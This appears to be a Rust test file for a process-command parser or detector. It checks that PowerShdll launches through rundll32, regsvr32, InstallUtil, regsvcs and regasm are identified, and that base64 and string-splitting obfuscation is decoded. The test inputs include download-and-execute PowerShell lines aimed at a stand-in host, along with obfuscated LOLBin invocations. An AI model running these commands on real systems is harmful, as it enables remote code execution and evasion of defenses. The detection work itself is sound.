//! PowerShdll: PowerShell as a DLL, through five programs of Windows and on its own.
//!
//! Source: the README of <https://github.com/p3nt4/PowerShdll>.

use super::*;

#[test]
fn every_way_to_run_it() {
    let framework = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319";
    for (command, arguments, name) in [
        ("rundll32", "PowerShdll,main . { iwr -useb http://10.0.0.1/x } ^| iex;".to_owned(), "rundll32.exe"),
        ("rundll32.exe", "PowerShdll.dll,main -w".to_owned(), "rundll32.exe"),
        (
            r"C:\Windows\System32\rundll32.exe",
            r"C:\Users\Public\PowerShdll.dll , main -i".to_owned(),
            "rundll32.exe",
        ),
        (r"%windir%\system32\rundll32", "\"PowerShdll.dll\",main -f x.ps1".to_owned(), "rundll32.exe"),
        ("rundll32 Power\"Shdll\".dll,main -n", String::new(), "rundll32.exe"),
        ("RUNDLL~1.EXE", "Power^Shdll.dll,main x".to_owned(), "rundll32.exe"),
        ("InstallUtil.exe", "/logfile= /LogToConsole=false /U PowerShdll.dll".to_owned(), "installutil.exe"),
        ("regsvcs.exe", "PowerShdll.dll".to_owned(), "regsvcs.exe"),
        ("regasm", "/U PowerShdll.dll".to_owned(), "regasm.exe"),
        ("regsvr32", "/s  /u PowerShdll.dll".to_owned(), "regsvr32.exe"),
        ("regsvr32.exe", "/u /s C:/Users/Public//PowerShdll.dll".to_owned(), "regsvr32.exe"),
        ("PowerShdll.exe", "-f x.ps1".to_owned(), "powershdll.exe"),
        (r"C:\temp\PowerShdll", "-i".to_owned(), "powershdll.exe"),
        (&format!(r"{framework}\RegAsm.exe"), "/U PowerShdll.dll".to_owned(), "regasm.exe"),
    ] {
        let list = processes(command, &arguments);
        let normalized = list[0].normalized.to_lowercase();
        assert!(normalized.contains("powershdll"), "{normalized}");
        assert!(normalized.starts_with(&list[0].image.to_lowercase()));
        assert_eq!(list[0].image_name, name);
    }
}

#[test]
fn behind_a_wrapper_it_is_a_process_of_its_own() {
    let list = processes("cmd", r#"/c "start /b rundll32 Power"Shdll",main iex (x)""#);
    assert_eq!(
        (list[1].image_name.as_str(), list[1].arguments.as_str()),
        ("rundll32.exe", "PowerShdll,main iex (x)")
    );
}

#[test]
fn the_script_in_its_line_is_decoded() {
    let text = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/x')";
    let blob = decode::base64::encode(text.as_bytes());
    let script =
        format!("[Text.Encoding]::Default.GetString([Convert]::FromBase64String(\"{blob}\")) ^| iex");
    let list = processes("rundll32", &format!("PowerShdll.dll,main {script}"));
    assert_eq!(list[0].decoded, [Layer { how: "base64 utf-8".into(), text: text.into() }]);
}

#[test]
fn a_script_for_another_host_of_powershell_is_folded() {
    let list = processes("SyncAppvPublishingServer.exe", r#""n; Start-Process ('ca'+'lc')""#);
    assert_eq!(list[0].decoded, [Layer { how: "folded".into(), text: "n; Start-Process 'calc'".into() }]);
}
